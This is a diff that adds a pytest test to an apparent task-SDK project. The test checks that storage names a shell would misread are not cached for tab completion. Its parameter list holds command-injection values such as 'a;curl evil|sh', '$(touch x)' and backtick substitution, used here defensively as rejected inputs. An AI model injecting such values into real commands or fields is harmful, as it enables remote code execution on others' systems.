@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import stat
 
+import pytest
+
 from openpai_tasks.registry import Cluster
 from openpai_tasks.sdk import names
 
@@ -80,3 +82,13 @@ def test_a_list_stays_short_and_keeps_the_newest(tmp_path, monkeypatch):
     names.saw_paths(["pai://lab/new"])
     kept = (names.folder() / "paths").read_text().splitlines()
     assert len(kept) == names.MOST_PATHS and "pai://lab/new" in kept
+
+
+@pytest.mark.parametrize(
+    "name", ["a;curl evil|sh", "$(touch x)", "`x`", "a b", "-rf", "a\nb", "a'b", "\ud800", ""]
+)
+def test_a_name_that_a_shell_would_read_as_more_is_not_kept(tmp_path, monkeypatch, name):
+    """A TAB puts what is kept into a command line."""
+    monkeypatch.setenv("OPENPAI_HOME", str(tmp_path))
+    names.saw_storages([name, "team"])
+    assert (names.folder() / "storages").read_text() == "team\n"
